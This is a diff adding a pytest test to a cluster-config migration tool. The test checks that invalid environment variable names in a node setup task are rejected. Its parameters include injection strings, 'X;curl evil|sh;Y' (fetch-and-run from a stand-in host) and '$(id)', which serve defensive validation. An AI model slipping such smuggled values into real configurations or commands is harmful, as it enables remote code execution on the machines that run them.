@@ -279,3 +279,25 @@ def test_cli_folder_and_invalid_file(folder: Path, tmp_path: Path) -> None:
     assert result.exit_code == 1
     assert "properties.nodeCount: expected an integer" in result.output
     assert "properties.pyTorchSettings.pythonScriptFilePath: required field is missing" in result.output
+
+
+@pytest.mark.parametrize("name", ["X;curl evil|sh;Y", "1ST", "A-B", "$(id)"])
+def test_environment_variable_names_are_checked_before_they_go_into_node_setup(
+    tmp_path: Path, name: str
+) -> None:
+    data = json.loads(CLUSTERS[0].read_text())
+    data["properties"]["nodeSetup"] = {
+        "setupTask": {
+            "commandLine": "true",
+            "stdOutErrPathPrefix": "$AZ_BATCHAI_MOUNT_ROOT/logs",
+            "environmentVariables": [{"name": "GOOD_1", "value": "x"}, {"name": name, "value": "y"}],
+        }
+    }
+    path = tmp_path / "cluster.json"
+    path.write_text(json.dumps(data))
+    with pytest.raises(ConfigError) as caught:
+        migrate(cluster=path)
+    (problem,) = caught.value.problems
+    assert problem.file == str(path)
+    assert problem.field == "properties.nodeSetup.setupTask.environmentVariables[1].name"
+    assert "not an environment variable name" in problem.message
